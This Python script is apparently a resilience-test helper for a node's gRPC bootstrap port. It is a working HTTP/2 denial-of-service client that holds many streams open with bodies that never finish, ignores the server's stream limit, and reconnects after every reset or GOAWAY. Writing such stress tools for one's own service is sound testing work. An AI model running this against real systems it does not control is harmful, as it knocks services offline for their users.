"""A client that stalls a node's bootstrap port with raw HTTP/2 (not a test module).

    python stall_proc.py HOST PORT CONNECTIONS STREAMS [SOURCE_IP]

Opens CONNECTIONS TCP connections (from SOURCE_IP, default 127.0.0.1) and speaks just enough HTTP/2 to look
like a live peer (SETTINGS and its ACK, PING ACKs). On each connection it keeps STREAMS calls to
``Bootstrap/Hello`` open whose body never arrives: HEADERS, then a gRPC message prefix announcing 4 KiB and
10 bytes of it, then nothing. It ignores the server's stream limit on purpose, opens a new call whenever
the server ends or resets one, and reconnects whenever the server closes the connection. Prints
``STALLING`` once the first calls are out; on SIGTERM prints ``OPENED <calls> RESET <n> GOAWAY <n>``.
"""

from __future__ import annotations

import signal
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
METHOD = "/fldsl.transport.v1.Bootstrap/Hello"

counts = {"opened": 0, "reset": 0, "goaway": 0}
lock = threading.Lock()
stop = threading.Event()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """HPACK literal header field without indexing, new name, no Huffman (all strings < 127 bytes)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def headers(authority: str) -> bytes:
    return b"".join(literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")])


def recv_exact(sock: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


class Connection:
    def __init__(self, host: str, port: int, source: str, streams: int) -> None:
        self.sock = socket.create_connection((host, port), timeout=30, source_address=(source, 0))
        self.sock.settimeout(None)
        self.authority = f"{host}:{port}"
        self.streams = streams
        self.next_id = 1
        self.open: set[int] = set()
        self.send_lock = threading.Lock()
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data: bytes) -> None:
        with self.send_lock:
            self.sock.sendall(data)

    def open_call(self) -> None:
        sid, self.next_id = self.next_id, self.next_id + 2
        self.open.add(sid)
        partial = b"\x00" + struct.pack(">I", 4096) + b"\x0a" * 10  # a 4 KiB message, 10 bytes of it
        self.send(frame(HEADERS, END_HEADERS, sid, headers(self.authority)) + frame(DATA, 0, sid, partial))
        with lock:
            counts["opened"] += 1

    def fill(self) -> None:
        while len(self.open) < self.streams and not stop.is_set():
            self.open_call()

    def serve(self) -> None:
        """Answer what a live peer must answer; replace every call the server ends."""
        while not stop.is_set():
            length, kind, flags, sid = self.read_header()
            payload = recv_exact(self.sock, length)
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                with lock:
                    counts["goaway"] += 1
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                with lock:
                    counts["reset"] += 1
                self.open.discard(sid)
                time.sleep(0.02)  # a persistent attacker, not a busy loop
                self.fill()

    def read_header(self) -> tuple[int, int, int, int]:
        raw = recv_exact(self.sock, 9)
        length = int.from_bytes(raw[:3], "big")
        return length, raw[3], raw[4], int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF


def attack(host: str, port: int, source: str, streams: int, started: threading.Event) -> None:
    while not stop.is_set():
        try:
            conn = Connection(host, port, source, streams)
            conn.fill()
            started.set()
            conn.serve()
        except OSError:
            time.sleep(0.05)  # the server closed the connection: open another


def main() -> int:
    host, port, connections, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    source = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.1"
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    started = threading.Event()
    for _ in range(connections):
        threading.Thread(target=attack, args=(host, port, source, streams, started), daemon=True).start()
    if started.wait(10):
        print("STALLING", flush=True)
    while not stop.wait(0.1):
        pass
    with lock:
        print(f"OPENED {counts['opened']} RESET {counts['reset']} GOAWAY {counts['goaway']}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
